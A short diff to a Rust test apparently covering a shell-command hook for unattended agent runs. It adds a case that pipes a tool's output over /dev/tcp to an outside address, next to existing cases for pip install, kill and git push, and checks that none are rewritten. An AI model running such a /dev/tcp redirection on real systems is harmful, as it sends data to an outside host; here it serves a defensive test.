@@ -127,7 +127,12 @@ fn the_shell_goes_where_it_went_and_the_words_stay_the_same() {
 #[test]
 fn what_would_break_is_left_alone_and_what_is_refused_stays_refused() {
     let environment = project(UNATTENDED);
-    for command in ["./tool && pip install requests", "./tool; kill 4711", "./tool && git push"] {
+    for command in [
+        "./tool && pip install requests",
+        "./tool; kill 4711",
+        "./tool && git push",
+        "./tool >& /dev/tcp/192.0.2.1/99",
+    ] {
         let answer = environment.bash("s", command);
         assert!(answer["hookSpecificOutput"]["updatedInput"].is_null(), "{command}: {answer}");
     }
